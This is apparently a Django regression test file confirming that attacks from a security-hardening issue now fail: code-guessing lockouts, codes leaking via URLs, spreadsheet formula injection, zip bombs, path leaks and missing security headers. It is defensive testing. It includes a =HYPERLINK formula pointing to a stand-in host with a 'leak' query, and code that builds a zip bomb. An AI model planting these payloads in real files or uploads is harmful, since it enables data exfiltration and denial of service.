"""The attacks of issue 9 ("Security hardening"), repeated: each one now fails.

One test per attack as the issue describes it; the detailed tests live with each feature
(tests/questionnaires/test_code_*.py, tests/lib/test_spreadsheet.py,
tests/reports/test_formula_cells.py, tests/interchange/test_import_limits.py and
test_import_text_safety.py, tests/core/test_security_headers.py and test_control_characters.py).
"""

import csv
import io
import tracemalloc
import zipfile

from django.core.cache import cache
from django.urls import reverse
from openpyxl import load_workbook

from frirum.interchange.actions import ImportRefused, import_dataset
from frirum.questionnaires import codes
from frirum.questionnaires.actions import issue_feedback_code
from frirum.reports.render import render_report
from frirum.sites.models import Site
from frirum.taxonomies.models import Term
from tests.base import BaseTestCase, make_contact
from tests.interchange.helpers import TempDirMixin, counts
from tests.interchange.test_import_errors import replace_cell
from tests.reports.presentation_fixtures import annual_figures

HYPERLINK = '=HYPERLINK("http://x.example/?leak","klik")'
SCHOOL = "192.0.2.44"


class QuestionnaireCodeAttacksTestCase(BaseTestCase):
    def setUp(self):
        cache.clear()
        self.contact = make_contact(self.site_a)
        _record, self.code = issue_feedback_code(contact=self.contact, actor=self.volunteer_a)

    def test_ten_wrong_codes_from_one_address_no_longer_block_a_valid_one(self):
        neighbour = self.client_class(REMOTE_ADDR=SCHOOL)
        for _ in range(10):
            neighbour.post(reverse("questionnaires:start"), {"code": codes.new_code()})
        for _ in range(10):
            neighbour.post(reverse("questionnaires:start"), {"code": self.code[:-1] + "2"})
        pupil = self.client_class(REMOTE_ADDR=SCHOOL)
        response = pupil.post(reverse("questionnaires:start"), {"code": self.code})
        self.assertRedirects(response, reverse("questionnaires:answer"))

    def test_the_code_no_longer_travels_in_a_url(self):
        self.login(self.volunteer_a)
        sheet = self.client.post(
            reverse("questionnaires:issue_code", args=[make_contact(self.site_a).code])
        )
        plain = sheet.context["code"].replace("-", "")
        self.assertTrue(sheet.context["url"].endswith(f"/q/#{plain}"))
        youth = self.client_class()
        # The old form of link opens nothing, and the code is not even looked at.
        self.assertRedirects(youth.get(f"/q/{plain}/"), reverse("questionnaires:start"))
        opened = youth.post(reverse("questionnaires:start"), {"code": plain})
        self.assertNotIn(plain, opened["Location"])
        self.assertNotIn(plain, youth.get(opened["Location"]).content.decode())


class SpreadsheetFormulaAttacksTestCase(BaseTestCase):
    def test_a_formula_in_a_term_label_or_site_name_stays_text(self):
        Term.objects.filter(code="anxiety").update(label_da="=1+1")
        Site.objects.filter(pk=self.site_a.pk).update(name=HYPERLINK)
        figures = annual_figures(site=self.site_a.code)
        figures["site"]["name"] = HYPERLINK
        options = {"kind": "annual", "figures": figures, "previous": None, "language": "da", "k": 5}

        workbook = load_workbook(io.BytesIO(render_report(fmt="xlsx", **options)))
        cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
        self.assertFalse([c.coordinate for c in cells if c.data_type == "f"])
        self.assertTrue(any(c.value == "=1+1" and c.quotePrefix for c in cells))

        text = render_report(fmt="csv", **options).decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                self.assertFalse(cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell)
        self.assertIn("'=1+1", text)


class UploadAttacksTestCase(TempDirMixin, BaseTestCase):
    def test_a_1_2_mb_zip_holding_one_1_2_gb_line_is_refused_without_memory(self):
        path = self.tmp / "bomb.zip"
        with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
            with archive.open("sites.csv", "w", force_zip64=True) as member:
                member.write(b"site_code,name,kind,municipality_code\r\nx,")
                block = b"a" * (1 << 20)
                for _ in range(1200):
                    member.write(block)
        self.assertLess(path.stat().st_size, 1_300_000)
        tracemalloc.start()
        try:
            with self.assertRaises(ImportRefused) as refused:
                import_dataset(path=path, source_name="bomb.zip")
            _current, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        self.assertLess(peak, 10 * 1024 * 1024)
        self.assertNotIn(str(self.tmp), str(refused.exception))

    def test_an_error_message_shows_no_server_path(self):
        path = self.tmp / "upload-3f9a.zip"
        path.write_bytes(b"PK\x03\x04 broken")
        with self.assertRaises(ImportRefused) as refused:
            import_dataset(path=path, source_name="mine.zip")
        self.assertNotIn(str(self.tmp), str(refused.exception))
        self.assertNotIn("upload-3f9a", str(refused.exception))

    def test_a_nul_byte_in_a_site_name_is_not_stored(self):
        before = counts()
        folder = self.write_folder(replace_cell("sites.csv", 2, "name", "headspace\x00X"))
        with self.assertRaises(ImportRefused):
            import_dataset(path=folder)
        self.assertEqual(counts(), before)


class HeaderAttacksTestCase(BaseTestCase):
    def test_pages_now_carry_csp_permissions_policy_and_no_store(self):
        self.login(self.chief_a)
        response = self.client.get(reverse("reports:annual", args=[self.site_a.code]))
        self.assertIn("script-src 'self'", response["Content-Security-Policy"])
        self.assertNotIn("unsafe-inline", response["Content-Security-Policy"])
        self.assertIn("camera=()", response["Permissions-Policy"])
        self.assertIn("no-store", response["Cache-Control"])
